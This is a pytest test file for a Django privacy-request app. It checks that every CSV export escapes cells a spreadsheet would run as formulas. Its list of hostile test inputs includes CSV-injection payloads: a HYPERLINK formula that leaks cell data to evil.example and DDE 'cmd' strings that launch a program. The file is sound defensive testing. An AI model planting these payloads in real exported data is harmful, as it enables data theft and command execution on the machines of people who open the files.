"""Every CSV the product writes neutralises cells a spreadsheet would run as a formula (OWASP CSV
injection), while the numbers and dates the product itself writes stay readable."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from dsr.csv_export import FORMULA_START, csv_cell
from dsr.models import DataSubjectRequest
from dsr.services.audit import Actor
from dsr.services.staff_actions import request_assign
from dsr.services.suppression import suppression_add
from tests.factories import officer_create, request_create
from tests.support import ROOT


HOSTILE_TEXT = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\0=1",
]


@pytest.mark.parametrize("value", HOSTILE_TEXT)
def test_formula_cells_become_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "-3",
        "+1.5",
        "42",
        "2026-03-05",
        "2026-03-05T09:30:00+00:00",
        "Alex Example",
        "a@example.org",
        "it's",
        "",
        "DSR-2026-000042",
    ],
)
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 7, 2.5, None])
def test_values_the_product_writes_are_not_text(value):
    assert csv_cell(value) == ("" if value is None else value)


def _url_names(resolver=None, namespace=""):
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _url_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}"


# Every CSV endpoint, and how to ask it for everything. A new one fails the first test until it is
# listed here, and so tested below.
CSV_ENDPOINTS = {
    "dashboard:queue-csv": ("/dashboard/queue.csv", {"status": "all"}),
    "dashboard:reports-csv": ("/dashboard/reports/metrics.csv", {}),
    "api:suppressions-csv": ("/api/v1/staff/suppressions.csv", {}),
}


def test_every_csv_endpoint_is_tested():
    assert sorted(n for n in _url_names() if n.lower().endswith("csv")) == sorted(CSV_ENDPOINTS)
    assert len(CSV_ENDPOINTS) == 3


def test_every_csv_writer_is_the_safe_one():
    """No code but dsr/csv_export.py makes its own csv writer (the benchmarks are not the product)."""
    offenders = []
    for path in [*ROOT.glob("dsr/**/*.py"), *ROOT.glob("config/**/*.py")]:
        if path.name == "csv_export.py":
            continue
        source = path.read_text()
        if re.search(r"csv\.(writer|DictWriter)\b|import csv\b|from csv import", source):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


@pytest.fixture
def hostile_queue(db):
    """Requests whose every requester-typed exported field is hostile, through the real services;
    the tab/CR/LF-led values the intake now refuses are written directly, as rows accepted before
    that rule still exist."""
    officer = officer_create(username="olivia", email="olivia@company.example")
    sneaky = officer_create(username="@SUM", email="sum@company.example")  # usernames may start with @, + or -
    emails = ["=1+2@evil.example", "+cmd@evil.example", "-2+3@evil.example", "x@evil.example", "a@evil.example"]
    created = []
    for i, name in enumerate(HOSTILE_TEXT[:4] + ["Plain Name"]):
        r = request_create(
            email=emails[i],
            full_name=name,
            request_type="erasure",
            regime="ccpa",
            received_at=timezone.now() - timedelta(days=60 if i == 0 else 1),
            channel="phone",
            actor=Actor.staff(officer),
        )
        request_assign(request=r, actor=Actor.staff(officer), assignee=sneaky)
        created.append(r)
    for i, value in enumerate(v for v in HOSTILE_TEXT[4:] if "\0" not in v):  # PostgreSQL text holds no NUL
        r = request_create(email=f"legacy{i}@example.org", full_name="x")
        DataSubjectRequest.objects.filter(pk=r.pk).update(full_name=value, email=value + "@example.org")
        created.append(r)
    for email in emails:  # the suppression list holds hashes of them, never the typed text
        suppression_add(email=email, scope="marketing", source="staff")
    return officer, created


def _cells(client, url, params):
    res = client.get(url, params)
    assert res.status_code == 200 and res["Content-Type"].startswith("text/csv")
    body = b"".join(res.streaming_content) if res.streaming else res.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


@pytest.mark.parametrize("name", sorted(CSV_ENDPOINTS))
def test_no_cell_of_any_csv_starts_a_formula(client, hostile_queue, name):
    officer, created = hostile_queue
    client.force_login(officer)
    url, params = CSV_ENDPOINTS[name]
    rows = _cells(client, url, params)
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
                continue  # a plain number is not a formula
            assert cell[:1] not in FORMULA_START and cell.lstrip()[:1] not in FORMULA_START, (name, cell)
    if name == "dashboard:queue-csv":
        header, data = rows[0], rows[1:]
        by_ref = {row[header.index("reference")]: dict(zip(header, row)) for row in data}
        assert len(by_ref) == len(created)
        overdue = by_ref[created[0].reference]
        assert int(overdue["days_left"]) < 0  # the product's own negative number stays a number
        assert overdue["respond_by"] == created[0].respond_by.isoformat()
        assert overdue["received_at"].startswith(str(created[0].received_at.year))
        # Nothing is lost: the typed value is there, marked as text.
        assert overdue["full_name"] == "'" + HOSTILE_TEXT[0] and overdue["email"] == "'=1+2@evil.example"
        assert overdue["assignee"] == "'@SUM"
        assert by_ref[created[4].reference]["full_name"] == "Plain Name"
